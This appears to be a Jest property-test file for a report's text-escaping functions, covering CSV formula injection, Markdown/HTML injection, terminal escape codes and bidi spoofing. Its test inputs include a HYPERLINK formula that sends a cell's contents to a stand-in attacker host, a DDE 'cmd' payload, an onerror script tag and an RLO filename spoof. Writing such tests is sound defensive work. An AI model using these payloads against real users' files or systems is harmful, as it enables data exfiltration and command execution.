/**
 * The report's text neutralizers (lambda/report/safe-text.ts): examples of
 * each attack, and properties over arbitrary strings, weighted towards the
 * characters that matter.
 */
import { stringify } from 'csv-stringify/sync';
import * as fc from 'fast-check';
import { csvCell, exactJson, hasInvisible, markdownCell, markdownLine, visibleControls } from '../../lambda/report/safe-text';

const ESC = '\u001b';
const RLO = '\u202e';

/** Characters every neutralizer must handle, mixed with plain ones so that they land anywhere in a string. */
const HOSTILE = [
  '\u0000', '\t', '\n', '\r', ESC, '\u007f', '\u0085', '\u009b', '\u061c', '\u200e', '\u200f', '\u2028', '\u2029',
  '\u202a', '\u202b', '\u202c', '\u202d', RLO, '\u2066', '\u2067', '\u2068', '\u2069',
  '=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20', "'", '"', ',', ';',
  '|', '\\', '`', '[', ']', '<', '>', '&', '#', '*', '_', '~', '(', ')', '!', '.', '1', ' ',
  'a', 'Z', 'é', '😀', 'u', '0',
];
const hostileText = fc.string({ unit: fc.constantFrom(...HOSTILE), maxLength: 40 });
const anyText = fc.oneof(hostileText, fc.string({ unit: 'binary', maxLength: 40 }));

/** Every character the brief names: C0, DEL, C1, bidi embeddings, overrides and isolates. */
const NAMED_CONTROLS = [
  ...Array.from({ length: 0x20 }, (_, i) => i), 0x7f, ...Array.from({ length: 0x20 }, (_, i) => 0x80 + i),
  0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069,
].map((c) => String.fromCharCode(c));

/** CommonMark's backslash escape: `\` before ASCII punctuation stands for that character. */
function unescapeMarkdown(text: string): string {
  return text.replace(/\\([!-/:-@[-`{-~])|&#32;/g, (_, escaped?: string) => escaped ?? ' ');
}

/** The text with every backslash-escaped pair removed: what a Markdown parser sees as syntax. */
function unescapedRest(text: string): string {
  return text.replace(/\\[!-/:-@[-`{-~]/g, '');
}

/** One CSV record's fields per RFC 4180. */
function parseCsvRecord(line: string): string[] {
  const fields: string[] = [];
  let i = 0;
  for (;;) {
    if (line[i] === '"') {
      let value = '';
      i++;
      for (;;) {
        const q = line.indexOf('"', i);
        if (q < 0) throw new Error(`unterminated quoted field in ${JSON.stringify(line)}`);
        value += line.slice(i, q);
        if (line[q + 1] === '"') {
          value += '"';
          i = q + 2;
        } else {
          i = q + 1;
          break;
        }
      }
      fields.push(value);
    } else {
      const end = line.indexOf(',', i);
      fields.push(line.slice(i, end < 0 ? line.length : end));
      i = end < 0 ? line.length : end;
    }
    if (i >= line.length) return fields;
    if (line[i] !== ',') throw new Error(`text after a quoted field in ${JSON.stringify(line)}`);
    i++;
  }
}

describe('visibleControls', () => {
  test('every C0, DEL, C1, bidi override and isolate becomes a visible \\uXXXX', () => {
    for (const c of NAMED_CONTROLS) {
      expect(visibleControls(`a${c}b`)).toBe(`a\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}b`);
    }
    expect(visibleControls(`${ESC}[2J${ESC}]8;;http://evil.example${ESC}\\x`)).toBe('\\u001b[2J\\u001b]8;;http://evil.example\\u001b\\x');
    expect(visibleControls(`invoice-${RLO}fdp.exe`)).toBe('invoice-\\u202efdp.exe');
    expect(visibleControls('line\nbreak\r\n')).toBe('line\\u000abreak\\u000d\\u000a');
  });

  test('leaves printable text alone, including non-ASCII letters, emoji and zero-width joiners', () => {
    const text = 'alias/café-😀 👩‍💻 ünïcödé — 2028-01-01 (decrypt-only)';
    expect(visibleControls(text)).toBe(text);
  });

  test('property: no control, bidi or separator character survives; text without one is unchanged', () => {
    fc.assert(fc.property(anyText, (s) => {
      const out = visibleControls(s);
      expect(hasInvisible(out)).toBe(false);
      if (!hasInvisible(s)) expect(out).toBe(s);
    }));
  });

  test('property: reversible for text without a backslash (each escape names the character it replaced)', () => {
    fc.assert(fc.property(anyText.filter((s) => !s.includes('\\')), (s) => {
      const back = visibleControls(s).replace(/\\u([0-9a-f]{4})/g, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)));
      expect(back).toBe(s);
    }));
  });
});

describe('csvCell', () => {
  test('a cell a spreadsheet would read as a formula gets a leading single quote (OWASP)', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"Click")')).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"Click")');
    expect(csvCell('+1+cmd|\' /C calc\'!A0')).toBe('\'+1+cmd|\' /C calc\'!A0');
    expect(csvCell('-2+3')).toBe('\'-2+3');
    expect(csvCell('@SUM(A1:A9)')).toBe('\'@SUM(A1:A9)');
    expect(csvCell('\t=1+1')).toBe('\'\\u0009=1+1');
    expect(csvCell('\r=1+1')).toBe('\'\\u000d=1+1');
    expect(csvCell('\uff1d1+1')).toBe('\'\uff1d1+1');
  });

  test('ordinary values, and formula characters after the first, are unchanged', () => {
    for (const v of ['', 'alias/story', '2028-01-01T03:25:00.000Z', 'a=b', 'x-1', 'user@example.com', 'true', '6']) expect(csvCell(v)).toBe(v);
  });

  test('controls anywhere are made visible (a line break cannot start a new record)', () => {
    expect(csvCell('ok\n=cmd')).toBe('ok\\u000a=cmd');
    expect(csvCell(`${ESC}[31mred`)).toBe('\\u001b[31mred');
  });

  test('property: no cell starts a formula or holds a control; the quote is added exactly when needed', () => {
    fc.assert(fc.property(anyText, (s) => {
      const out = csvCell(s);
      expect(out).not.toMatch(/^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/);
      expect(hasInvisible(out)).toBe(false);
      expect(out).toBe(/^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(s) ? `'${visibleControls(s)}` : visibleControls(s));
    }));
  });

  test('property: csv-stringify\'s RFC 4180 quoting keeps each neutralized cell one field of one record', () => {
    fc.assert(fc.property(fc.array(anyText, { minLength: 1, maxLength: 4 }), (cells) => {
      const text = stringify([[...cells.map(csvCell), 'end']]);
      expect(text.endsWith('\n')).toBe(true);
      expect(text.indexOf('\n')).toBe(text.length - 1);
      expect(parseCsvRecord(text.slice(0, -1))).toEqual([...cells.map(csvCell), 'end']);
    }));
  });
});

describe('markdownCell', () => {
  test('a pipe cannot end the cell, a backtick cannot open code, brackets and angle brackets cannot link or inject HTML', () => {
    expect(markdownCell('a | b')).toBe('a \\| b');
    expect(markdownCell('`code`')).toBe('\\`code\\`');
    expect(markdownCell('[click](http://evil.example)')).toBe('\\[click\\](http://evil.example)');
    expect(markdownCell('![x](http://evil.example/t.png)')).toBe('!\\[x\\](http://evil.example/t.png)');
    expect(markdownCell('<img src=x onerror=alert(1)>')).toBe('\\<img src=x onerror=alert(1)\\>');
    expect(markdownCell('<http://evil.example>')).toBe('\\<http://evil.example\\>');
    expect(markdownCell('&#x202E;')).toBe('\\&#x202E;');
    expect(markdownCell('C:\\dir')).toBe('C:\\\\dir');
    expect(markdownCell(`a\nb${RLO}`)).toBe('a\\\\u000ab\\\\u202e');
  });

  test('the report\'s own cells are unchanged (the golden files hold them)', () => {
    for (const v of ['-', 'retired (decrypt-only)', '2028-01-01 Decrypt', 's3://escrow-bucket/escrow/g/generation-1/x.json (version a_b-c)', 'adopted:AWS_KMS']) {
      expect(markdownCell(v)).toBe(v);
    }
  });

  test('property: the rendered text is the visible text, and no syntax character is left unescaped', () => {
    fc.assert(fc.property(anyText, (s) => {
      const out = markdownCell(s);
      expect(unescapeMarkdown(out)).toBe(visibleControls(s));
      expect(unescapedRest(out)).not.toMatch(/[|`[\]<>&\\]/);
      expect(hasInvisible(out)).toBe(false);
    }));
  });

  test('property: a row of cells splits into exactly its cells', () => {
    fc.assert(fc.property(fc.array(anyText, { minLength: 1, maxLength: 5 }), (cells) => {
      const row = `| ${cells.map(markdownCell).join(' | ')} |`;
      expect(row).not.toContain('\n');
      // GFM splits a row at every pipe not escaped by a backslash.
      const split = row.slice(1, -1).split(/(?<!\\)((?:\\\\)*)\|/);
      const parts: string[] = [];
      for (let i = 0; i < split.length; i += 2) parts.push(split[i] + (split[i + 1] ?? ''));
      expect(parts).toHaveLength(cells.length);
    }));
  });
});

describe('markdownLine', () => {
  test('a value at the start of a list item or paragraph cannot open a list, heading, quote, code block or thematic break', () => {
    expect(markdownLine('- nested')).toBe('\\- nested');
    expect(markdownLine('+ nested')).toBe('\\+ nested');
    expect(markdownLine('* nested')).toBe('\\* nested');
    expect(markdownLine('___')).toBe('\\___');
    expect(markdownLine('# Result: PASS')).toBe('\\# Result: PASS');
    expect(markdownLine('> quoted')).toBe('\\> quoted');
    expect(markdownLine('1. first')).toBe('1\\. first');
    expect(markdownLine('2) second')).toBe('2\\) second');
    expect(markdownLine('~~~')).toBe('\\~~~');
    expect(markdownLine('```')).toBe('\\`\\`\\`');
    expect(markdownLine('     code')).toBe('&#32;&#32;&#32;&#32;&#32;code');
    expect(markdownLine('ERROR: generation 1 - see [x](y)')).toBe('ERROR: generation 1 - see \\[x\\](y)');
  });

  test('property: no block marker at the start, and the rendered text is the visible text', () => {
    fc.assert(fc.property(anyText, (s) => {
      const out = markdownLine(s);
      expect(out).not.toMatch(/^([-+*_=#~>`< \t]|\d+[.)])/);
      expect(unescapeMarkdown(out)).toBe(visibleControls(s));
      expect(hasInvisible(out)).toBe(false);
    }));
  });
});

describe('exactJson', () => {
  test('parses back to exactly the same strings; characters JSON.stringify leaves raw are \\u-escaped', () => {
    const value = { source: `=HYPERLINK("x")|${ESC}[2J`, bidi: `a${RLO}b\u2066c\u0085d\u2028` };
    const out = exactJson(value);
    expect(JSON.parse(out)).toEqual(value);
    expect(out).toContain('"bidi": "a\\u202eb\\u2066c\\u0085d\\u2028"');
    expect(out).toContain('\\u001b[2J');
  });

  test('property: exact round trip, and only the indentation\'s line breaks are control characters', () => {
    fc.assert(fc.property(fc.dictionary(anyText, fc.oneof(anyText, fc.array(anyText, { maxLength: 3 }))), (value) => {
      const out = exactJson(value);
      expect(JSON.parse(out)).toEqual(value);
      expect(hasInvisible(out.replace(/\n/g, ''))).toBe(false);
    }));
  });
});
